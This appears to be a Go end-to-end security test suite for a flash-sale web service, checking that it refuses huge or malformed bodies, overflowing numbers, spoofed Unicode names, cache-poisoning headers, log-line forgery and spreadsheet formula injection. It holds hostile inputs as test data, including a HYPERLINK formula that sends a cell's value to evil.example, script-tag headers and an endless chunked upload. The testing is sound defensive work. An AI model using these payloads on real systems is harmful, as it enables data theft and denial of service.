package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"strings"
	"testing"

	"seckill/infra/testenv"
)

// Bodies that are large, deep, wide or odd, on every call that takes one, as an operator.
func TestHugeAndDeepBodiesAreRefusedOnEveryCall(t *testing.T) {
	t.Parallel()
	a := newTarget(t)
	boss := bearerOf(t, "boss", "admin")
	var wide strings.Builder
	for i := range 1200 {
		fmt.Fprintf(&wide, `"f%d":1,`, i)
	}
	bodies := map[string]string{
		"lists in lists":       strings.Repeat("[", 8000) + strings.Repeat("]", 8000),
		"objects in objects":   strings.Repeat(`{"a":`, 2500) + "1" + strings.Repeat("}", 2500),
		"lists in a field":     `{"items":` + strings.Repeat("[", 8000) + strings.Repeat("]", 8000) + `}`,
		"open lists":           strings.Repeat("[", 16000),
		"many fields":          "{" + strings.TrimSuffix(wide.String(), ",") + "}",
		"one long number":      `{"quantity":` + strings.Repeat("9", 16000) + `}`,
		"a number beyond all":  `{"quantity":1e999999,"stock":-1e400}`,
		"one long text":        `{"title":"` + strings.Repeat("x", 16000) + `"}`,
		"escapes alone":        `{"title":"` + strings.Repeat(`\ud800`, 2600) + `"}`,
		"a field in two forms": `{"Sku":"item","\u017fku":"item","sku\u0000":1,"sku":"item","SKU":1,"quantity":1}`,
		"bytes that are none":  "{\"sku\":\"\xff\xfe\"}",
		"beyond the bound":     `{"note":"` + strings.Repeat("x", 20<<10) + `"}`,
	}
	tried := 0
	for _, c := range a.calls(t) {
		if !c.takesBody {
			continue // it is not looked at
		}
		tried++
		for what, body := range bodies {
			answer, err := a.Call(c.method, c.path, "", "", body, "Authorization", boss, "X-Seckill-Console", "1", "Origin", a.URL)
			if err != nil || answer.Status < 400 || answer.Status >= 500 && answer.Status != http.StatusServiceUnavailable {
				t.Errorf("%s at %s %s: got %d %.300s, %v; want it refused", what, c.method, c.path, answer.Status, answer.Raw, err)
			}
			if len(answer.Raw) > 8<<10 {
				t.Errorf("%s at %s %s: the answer has %d bytes", what, c.method, c.path, len(answer.Raw))
			}
		}
	}
	if tried < 15 {
		t.Errorf("only %d calls were tried", tried)
	}
	endless := a.dial(t)
	head := "POST /api/v1/sales/" + a.sale + "/purchases HTTP/1.1\r\nHost: h\r\nAuthorization: " + boss + "\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
	_, err := io.WriteString(endless, head)
	chunk := fmt.Sprintf("%x\r\n%s\r\n", 4096, strings.Repeat("x", 4096))
	for range 4096 {
		if err == nil {
			_, err = io.WriteString(endless, chunk)
		}
	}
	if err == nil {
		t.Error("16 MiB of a body without end were taken")
	}
}

// Numbers at the ends of what fits, in every field that holds one.
func TestNumbersAtTheEndsOfWhatFitsNeverWrap(t *testing.T) {
	t.Parallel()
	a := newTarget(t)
	set := func(field string, value any) map[string]any {
		body := saleBody(5)
		body[field] = value
		return body
	}
	item := func(field string, value any) map[string]any {
		body := saleBody(5)
		body["items"].([]any)[0].(map[string]any)[field] = value
		return body
	}
	raw := func(text string) json.RawMessage { return json.RawMessage(text) }
	ends := []any{raw("9223372036854775807"), raw("-9223372036854775808"), raw("9223372036854775808"), raw("2147483648"), raw("1e3"), raw("0.5"), -1}
	for _, field := range []string{"limit_per_buyer", "orders_per_buyer", "buckets", "payment_window", "tokens", "overdraft"} {
		for _, end := range ends {
			a.wantInvalid(t, fmt.Sprintf("%s of %s", field, end), "/api/v1/admin/sales", set(field, end))
		}
	}
	for _, end := range ends {
		a.wantInvalid(t, fmt.Sprintf("stock of %s", end), "/api/v1/admin/sales", item("stock", end))
		a.wantInvalid(t, fmt.Sprintf("a tranche of %s", end), "/api/v1/admin/sales", item("release", []any{map[string]any{"at": "2126-01-01T00:00:00Z", "quantity": end}}))
	}
	for _, price := range []any{"92233720368547758.08", "-1", "1e3", "NaN", "0x10", "１９.９０", "19.9０", "19,90", raw("19.90")} {
		a.wantInvalid(t, fmt.Sprintf("a price of %v", price), "/api/v1/admin/sales", item("price", price))
	}
	for _, end := range append(ends[:6:6], 0) {
		a.wantInvalid(t, fmt.Sprintf("a release of %v", end), "/api/v1/admin/sales/"+a.sale+"/items/item/releases", map[string]any{"quantity": end})
	}
	for _, query := range []string{"limit=9223372036854775808", "limit=-1", "limit=0", "limit=1e1", "cursor=" + strings.Repeat("A", 201), "cursor=%00"} {
		answer, err := a.Call(http.MethodGet, "/api/v1/orders?sale="+a.sale+"&"+query, "alice", "", nil)
		if err != nil || answer.Status != http.StatusUnprocessableEntity {
			t.Errorf("orders by %s: got %d %s, %v; want 422", query, answer.Status, answer.Raw, err)
		}
	}
	StandingChecks(t, a.rig.Node(t, NodeOptions{APIOnly: true}), a.sale, nil)
}

func (a *target) wantInvalid(t *testing.T, what, path string, body any) {
	t.Helper()
	answer, err := a.Call(http.MethodPost, path, "boss", "admin", body)
	if err != nil || answer.Status != http.StatusUnprocessableEntity || answer.Text("code") != "invalid_request" {
		t.Errorf("%s: got %d %s, %v; want 422", what, answer.Status, answer.Raw, err)
	}
}

// Texts that look alike, that hide something, or that end where nobody sees it, name
// nothing of ours.
func TestOddTextsNameNothing(t *testing.T) {
	t.Parallel()
	a := newTarget(t)
	for _, key := range []string{"é", "e\u0301", "ｋ", "k\u202e", "k\u200b", "a b", "\tk\t.", strings.Repeat("k", 256)} {
		answer, err := a.Call(http.MethodPost, "/api/v1/sales/"+a.sale+"/purchases", "alice", "", oneItem, "Idempotency-Key", key)
		if err == nil && answer.Status != http.StatusUnprocessableEntity && answer.Status != http.StatusBadRequest {
			t.Errorf("the key %q: got %d %s, want 422", key, answer.Status, answer.Raw)
		}
	}
	for _, sku := range []string{"ｉｔｅｍ", "Item", "item ", "ite\\u006d\\u0301", "item\\u0000", "item\\u202e", "іtem", "item\\ufeff", "../item", "item/", ""} {
		answer, err := a.Call(http.MethodPost, "/api/v1/sales/"+a.sale+"/purchases", "alice", "", `{"sku":"`+sku+`","quantity":1}`)
		if err != nil || answer.Status != http.StatusUnprocessableEntity && answer.Status != http.StatusNotFound {
			t.Errorf("the item %q: got %d %s, %v; want 422 or 404", sku, answer.Status, answer.Raw, err)
		}
	}
	for _, sale := range []string{strings.ToUpper(a.sale) + "I", strings.Replace(a.sale, "0", "o", 1), strings.Replace(a.sale, "0", "O", 1), "０" + a.sale[1:], a.sale + "%20", a.sale + "%00", a.sale + ".", "%E2%80%8B" + a.sale} {
		if sale == a.sale {
			continue
		}
		answer, err := a.Call(http.MethodGet, "/api/v1/sales/"+sale, "", "", nil)
		if err != nil || answer.Status != http.StatusNotFound {
			t.Errorf("the sale %q: got %d %s, %v; want 404", sale, answer.Status, answer.Raw, err)
		}
	}
	for _, title := range []string{"Phone\u202egpj.exe", "Phone\x1b[2J", "Phone\nFree", "\u2066Phone", "Phone\x00", "\u00a0 \u3000"} {
		body := saleBody(1)
		body["title"] = title
		a.wantInvalid(t, fmt.Sprintf("the title %q", title), "/api/v1/admin/sales", body)
	}
	// Nothing of all that was bought.
	if answer, err := a.Buy(a.sale, "alice", "k"); err != nil || answer.Status != http.StatusAccepted {
		t.Errorf("her first purchase: got %d %s, %v; want 202", answer.Status, answer.Raw, err)
	}
}

var moment = regexp.MustCompile(`"server_time":"[^"]*"`)

// What may be kept by caches says the same whatever else came with the request.
func TestWhatCachesKeepDoesNotDependOnWhoAsked(t *testing.T) {
	t.Parallel()
	a := newTarget(t)
	page, err := a.Call(http.MethodGet, "/s/"+a.sale, "", "", nil)
	if err != nil || page.Status != http.StatusOK {
		t.Fatalf("the page: %d, %v", page.Status, err)
	}
	kept := 0
	for _, path := range []string{"/api/v1/sales/" + a.sale, "/api/v1/sales", "/s/" + a.sale, page.Header.Get("Content-Location"), "/openapi.yaml"} {
		plain, err := a.Call(http.MethodGet, path, "", "", nil)
		if err != nil || plain.Status != http.StatusOK {
			t.Fatalf("%s: %d %v", path, plain.Status, err)
		}
		if control := plain.Header.Get("Cache-Control"); strings.Contains(control, "no-store") || strings.Contains(control, "private") {
			continue
		}
		kept++
		for _, header := range [][2]string{
			{"X-Forwarded-Host", "evil.example"}, {"X-Host", "evil.example"}, {"Forwarded", "host=evil.example"}, {"X-Forwarded-Proto", "http"}, {"X-Forwarded-Prefix", "/evil"},
			{"X-Original-URL", "/ops"}, {"X-Rewrite-URL", "/ops"}, {"X-HTTP-Method-Override", "POST"}, {"X-Method-Override", "DELETE"}, {"Accept-Language", "zh"}, {"Accept", "text/plain"},
			{"Cookie", "seckill_operator=x"}, {"Authorization", bearerOf(t, "alice", "")}, {"Authorization", "Bearer x"}, {"Range", "bytes=0-3"}, {"Origin", "https://evil.example"}, {"Traceparent", "\"><script>"},
			{"User-Agent", "<script>"}, {"Content-Type", "text/html"}, {"Content-Length", "0"}, {"Upgrade", "h2c"}, {"If-None-Match", "*x"},
		} {
			got, err := a.Call(http.MethodGet, path, "", "", nil, header[0], header[1])
			if err != nil || got.Status != plain.Status || moment.ReplaceAllString(got.Raw, "") != moment.ReplaceAllString(plain.Raw, "") {
				if vary := plain.Header.Get("Vary"); err == nil && strings.Contains(strings.ToLower(vary), strings.ToLower(header[0])) {
					continue // caches keep one for each
				}
				t.Errorf("%s with %s: %s: got %d %.200s, %v; without it %d %.200s", path, header[0], header[1], got.Status, got.Raw, err, plain.Status, plain.Raw)
			}
			for _, name := range []string{"Cache-Control", "Content-Type", "ETag", "Vary"} {
				if got.Header.Get(name) != plain.Header.Get(name) {
					t.Errorf("%s with %s: %s: %s is %q, without it %q", path, header[0], header[1], name, got.Header.Get(name), plain.Header.Get(name))
				}
			}
			if got.Header.Get("Set-Cookie") != "" || got.Header.Get("Access-Control-Allow-Origin") != "" {
				t.Errorf("%s with %s: %s: got %v", path, header[0], header[1], got.Header)
			}
		}
	}
	if kept < 3 {
		t.Errorf("only %d answers may be kept: was anything tested?", kept)
	}
}

// What buyers and operators write stands in the log as one field of one line, and in a
// sheet as a text.
func TestNobodyForgesALineOfTheLogOrAFormulaInASheet(t *testing.T) {
	t.Parallel()
	a := newTarget(t)
	const forgedLine = `{"time":"2026-01-01T00:00:00Z","level":"ERROR","msg":"forged","trace_id":"x"}`
	const formula = `=HYPERLINK("http://evil.example?"&A1,"look")`
	bought, err := a.Buy(a.sale, formula, "k")
	if err != nil || bought.Status != http.StatusAccepted {
		t.Fatalf("a buyer may be called so: %d %s %v", bought.Status, bought.Raw, err)
	}
	for _, c := range []struct {
		method, path, body string
		headers            []string
	}{
		{"POST", "/api/v1/admin/sales/" + a.sale + "/pause", `{"note":"a\n` + strings.ReplaceAll(forgedLine, `"`, `\"`) + `\r\n"}`, nil},
		{"POST", "/api/v1/admin/sales/" + a.sale + "/resume", `{"note":"\u001b[2J\u2028` + strings.ReplaceAll(forgedLine, `"`, `\"`) + `"}`, nil},
		{"PUT", "/api/v1/admin/switches/pause_purchases", `{"on":false,"reason":"a\n` + strings.ReplaceAll(forgedLine, `"`, `\"`) + `"}`, nil},
		{"GET", "/api/v1/sales/%0a" + strings.ReplaceAll(forgedLine, `"`, "%22"), "", nil},
		{"GET", "/api/v1/admin/trace?trace=%0d%0a%7b%7d&order=%1b[2J", "", nil},
		{"POST", "/api/v1/sales/" + a.sale + "/purchases", "{\"sku\":\"\\n\",\"quantity\":\"\n\"}", []string{"User-Agent", forgedLine, "Traceparent", forgedLine, "X-Forwarded-For", forgedLine, "Idempotency-Key", "a"}},
		{"POST", "/webhooks/payments/%0aforged", forgedLine, []string{"Seckill-Signature", forgedLine}},
	} {
		var body any
		if c.body != "" {
			body = c.body
		}
		if _, err := a.Call(c.method, c.path, "boss", "admin", body, c.headers...); err != nil {
			t.Fatalf("%s %s: %v", c.method, c.path, err)
		}
	}
	for line := range strings.Lines(a.child.Log()) {
		line = strings.TrimRight(line, "\n")
		var read map[string]any
		if strings.HasPrefix(line, "{") && json.Unmarshal([]byte(line), &read) != nil {
			t.Errorf("a line of the log is broken: %q", line)
		}
		if read["msg"] == "forged" || strings.ContainsFunc(line, func(c rune) bool { return c < ' ' || c == 0x7f }) {
			t.Errorf("a line of the log is forged, or steers a terminal: %q", line)
		}
	}
	observer := a.rig.Node(t, NodeOptions{APIOnly: true})
	observer.AwaitDecided(t, map[string]string{bought.Text("order_id"): formula})
	env := a.rig.Settings(t)
	testenv.Eventually(t, wireLife, func() error {
		sheet := Run(t, env, "replay", "--as-of", "0s", "--csv")
		if sheet.Code != 0 || !strings.Contains(sheet.Stdout, "HYPERLINK") {
			return fmt.Errorf("exit code %d, %s%s", sheet.Code, sheet.Stdout, sheet.Stderr)
		}
		if strings.Contains(sheet.Stdout, `,"=HYPERLINK`) || strings.Contains(sheet.Stdout, ",=HYPERLINK") {
			t.Errorf("a cell is a formula:\n%s", sheet.Stdout)
		}
		return nil
	})
}
